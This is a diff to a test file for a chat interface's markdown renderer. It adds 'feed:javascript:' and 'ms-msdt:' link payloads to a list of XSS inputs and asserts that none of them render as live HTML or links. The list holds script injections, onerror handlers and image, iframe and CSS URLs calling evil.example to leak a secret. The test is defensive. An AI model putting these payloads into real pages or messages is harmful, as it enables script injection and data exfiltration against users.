@@ -270,7 +270,7 @@ def test_off_loopback_the_page_asks_for_a_key(browser: Browser, tmp_path: Path, 
 
 HOSTILE = [
     "<script>window.hit=1</script>", "<img src=x onerror='window.hit=1'>", "[a](javascript:window.hit=1)",
-    "[a](JaVaScRiPt:window.hit=1)", "[a](data:text/html;base64,PHNjcmlwdD4=)", "![x](https://evil.example/?q=secret)",
+    "[a](JaVaScRiPt:window.hit=1)", "[a](feed:javascript:window.hit=1)", "[a](ms-msdt:/x)", "[a](data:text/html;base64,PHNjcmlwdD4=)", "![x](https://evil.example/?q=secret)",
     "<iframe src='https://evil.example'></iframe>", "<svg onload='window.hit=1'>", "<style>*{background:url(//evil.example)}</style>",
     "```\"><img src=x onerror=window.hit=1>\ncode\n```", "$\\text{<img src=x onerror=window.hit=1>}$",
     "$\\href{javascript:window.hit=1}{x}$", "$$\\def\\a{\\a\\a}\\a$$", "[x]: javascript:window.hit=1\n\n[x]", "<a href='javascript:1'>x</a>",
@@ -284,6 +284,7 @@ def test_nothing_a_model_or_a_user_writes_runs(visit: Callable[..., Page], serve
     for thing in [*HOSTILE, "\n\n".join(HOSTILE)]:
         assert "<script" not in to_html(thing) and "<img" not in to_html(thing) and "<iframe" not in to_html(thing)
         assert "javascript:" not in "".join(p.split('"')[0].lower() for p in to_html(thing).split('href="')[1:])
+        assert "ms-msdt:" not in "".join(p.split('"')[0] for p in to_html(thing).split('href="')[1:])
     conversation = store.begin("", HOSTILE[1])
     parent = None
     for i, thing in enumerate([*HOSTILE, "\n\n".join(HOSTILE)]):
